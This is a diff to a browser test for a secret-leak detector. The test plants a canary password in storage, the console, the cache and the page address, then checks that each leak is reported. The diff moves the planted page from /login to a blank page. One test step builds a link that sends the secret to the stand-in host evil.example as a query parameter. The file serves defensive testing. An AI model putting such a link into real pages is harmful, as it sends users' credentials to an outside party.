@@ -1,4 +1,5 @@
 import { signInIsShown } from '#tests/pages/login.ts'
+import { blankPage } from '#tests/support/storage.ts'
 import { canary, expect, test } from './fixtures.ts'
 
 // The search of the other files, in a page that tells a password wherever it can: each place is found.
@@ -38,7 +39,7 @@ test('a secret that is planted in a place is found there', async ({ page, contex
   }, canary)
   await traces.readStores(page)
   // A page without the policy, to which a secret was told, with the address of the page before.
-  await page.goto(`/login?planted=${encodeURIComponent(canary)}`)
+  await page.goto(`${blankPage}?planted=${encodeURIComponent(canary)}`)
   await page.evaluate((secret) => {
     const link = Object.assign(document.createElement('a'), {
       href: `https://evil.example/?q=${encodeURIComponent(secret)}`,
@@ -51,7 +52,7 @@ test('a secret that is planted in a place is found there', async ({ page, contex
   expect(await traces.leaks()).toEqual([
     'access token in message',
     'access token in page',
-    'password in /login: address',
+    'password in /robots.txt: address',
     'password in IndexedDB',
     'password in cache',
     'password in console',
